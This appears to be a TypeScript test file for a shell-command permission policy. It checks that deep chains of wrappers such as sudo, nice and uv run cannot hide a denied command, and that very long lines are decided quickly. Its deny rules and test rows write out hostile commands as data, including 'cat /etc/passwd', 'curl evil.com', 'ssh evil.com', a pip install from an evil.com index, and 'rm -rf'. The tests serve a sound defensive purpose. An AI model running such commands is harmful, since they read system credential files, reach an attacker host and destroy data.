// Each level of a wrapper chain (`sudo sudo …`, `uv run --no-sync uv run …`) read the rest of
// the line again: its readers (command-effects.ts) read every word after it, its command's too
// (32 levels of ~110 words: 0.3-0.7 ms). Session 43: the words of wrapped commands are a unit of
// the work budget (budget.ts MAX_WRAPPED_WORDS); past it, a wrapper whose command is read next
// is read by its own readers up to its command only (the line asks), and its command is read as
// before, so a deny inside stays a deny. The level whose command nesting cuts off is read whole.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compilePolicy } from '../src/compile/compile.js';
import { decide } from '../src/decide/decide.js';
import { MAX_WRAPPED_WORDS, WorkBudget } from '../src/shell/budget.js';
import { fastestFreshMs, FRESH_BOUND_MS } from './helpers/long-lines.js';
import { CTX, source, type Rules } from './helpers/policy.js';

const RULES: Rules = { deny: ['Read(//etc/**)', 'Edit(//etc/**)', 'Shell(rm -rf *)', 'Domain(evil.com)'], allow: ['Shell(*)', 'PowerShell(*)', 'Read(**)', 'Edit(**)', 'Domain(*)'] };
const POLICY = compilePolicy([{ loaded: source(RULES) }]);
const shell = (command: string, dialect: 'bash' | 'powershell' = 'bash') => decide(POLICY, { op: 'shell', command, shell: dialect }, CTX);
const WRAPPED_BUDGET = /more than 1024 words of wrapped commands/;

describe('WorkBudget.wrapped', () => {
  it('takes words until MAX_WRAPPED_WORDS, then names the limit', () => {
    const b = new WorkBudget();
    expect(b.wrapped(MAX_WRAPPED_WORDS - 1)).toBe(true);
    expect(b.wrapped(1)).toBe(true);
    expect(b.exhausted).toBeUndefined();
    expect(b.wrapped(1)).toBe(false);
    expect(b.exhausted).toMatch(WRAPPED_BUDGET);
  });
});

describe('wrapper chains past the budget of wrapped words', () => {
  // [what, dialect, line, decision, the budget's reason among the reasons]
  const ROWS: readonly (readonly [string, 'bash' | 'powershell', string, 'allow' | 'ask' | 'deny', boolean])[] = [
    // (Allowed before: 31 levels of ~95 words read whole.)
    ['31 × sudo -u x, then mytool', 'bash', `${'sudo -u x '.repeat(31)}mytool a`, 'ask', true],
    ['31 × nice -n 5, then mytool', 'bash', `${'nice -n 5 '.repeat(31)}mytool a`, 'ask', true],
    ['31 × sudo -u x, then mytool (PowerShell)', 'powershell', `${'sudo -u x '.repeat(31)}mytool a`, 'ask', true],
    // (The command inside is read whatever the budget: its deny is found.)
    ['31 × sudo -u x, then cat /etc/passwd', 'bash', `${'sudo -u x '.repeat(31)}cat /etc/passwd`, 'deny', false],
    ['31 × sudo -u x, then rm -rf x', 'bash', `${'sudo -u x '.repeat(31)}rm -rf x`, 'deny', false],
    // (Past the budget a wrapper's own words are still read, up to its command: its host, its mounts.)
    ['31 × sudo -u x, then ssh evil.com ls', 'bash', `${'sudo -u x '.repeat(31)}ssh evil.com ls`, 'deny', false],
    ['31 × nice -n 5, then ssh -J evil.com h ls (PowerShell)', 'powershell', `${'nice -n 5 '.repeat(31)}ssh -J evil.com h ls`, 'deny', false],
    ['31 × sudo -u x, then docker run -v /etc:/x img ls', 'bash', `${'sudo -u x '.repeat(31)}docker run -v /etc:/x img ls`, 'deny', false],
    // (Past the nesting bound the level cut off reads its words whole, as before: the index URL is found.)
    ['33 × poetry run, then pip install --index-url https://evil.com', 'bash', `${'poetry run '.repeat(33)}pip install --index-url https://evil.com x`, 'deny', false],
    // (Within the budget: read as before.)
    ['8 × sudo, then mytool with 110 words', 'bash', `${'sudo '.repeat(8)}mytool ${'a '.repeat(110)}`, 'allow', false],
    ['9 × sudo, then mytool with 110 words (the last level is no wrapper: read whole)', 'bash', `${'sudo '.repeat(9)}mytool ${'a '.repeat(110)}`, 'allow', false],
    ['a long realistic chain', 'bash', `sudo -u x env A=1 nice -n 5 timeout 10 uv run --no-sync rm -rf ${'tests/a.py '.repeat(100)}`, 'deny', false],
  ];

  it.each(ROWS)('%s', (_, dialect, line, decision, budgetReason) => {
    const d = shell(line, dialect);
    expect(d.decision).toBe(decision);
    expect(d.reasons.some((r) => WRAPPED_BUDGET.test(r.message))).toBe(budgetReason);
  });

  it('a chain of any depth of these wrappers is never allowed around a denied command, and denied within eight levels', () => {
    const wrappers = ['sudo ', 'sudo -u x ', 'nice -n 5 ', 'timeout 5 ', 'env A=1 ', 'uv run --no-sync ', 'flock -n l ', 'nohup ', 'stdbuf -o0 ', 'poetry run ', 'command '];
    const denied = ['cat /etc/passwd', 'rm -rf x', 'curl evil.com', `rm -rf ${'a '.repeat(40)}`];
    // (Not `time`: bash reads `time time x` otherwise, and asks.)
    fc.assert(fc.property(fc.array(fc.constantFrom(...wrappers), { minLength: 1, maxLength: 40 }), fc.constantFrom(...denied), fc.constantFrom<'bash' | 'powershell'>('bash', 'powershell'), (chain, inner, dialect) => {
      const d = shell(`${chain.join('')}${inner}`, dialect);
      expect(d.decision).not.toBe('allow');
      if (chain.length <= 8) expect(d.decision).toBe('deny');
    }), { numRuns: 150 });
  });

  it('chains of 10,000 characters decide fast (hang guard)', () => {
    for (const unit of ['uv run --no-sync ', 'sudo -u x ', 'flock -n l ', 'env -iC/tmp ']) {
      for (const dialect of ['bash', 'powershell'] as const) {
        const line = `${unit.repeat(Math.floor(9_990 / unit.length))}rm x`;
        const { value, ms } = fastestFreshMs(dialect, line);
        expect(value.decision).not.toBe('allow');
        expect(ms).toBeLessThan(FRESH_BOUND_MS);
      }
    }
  });
});
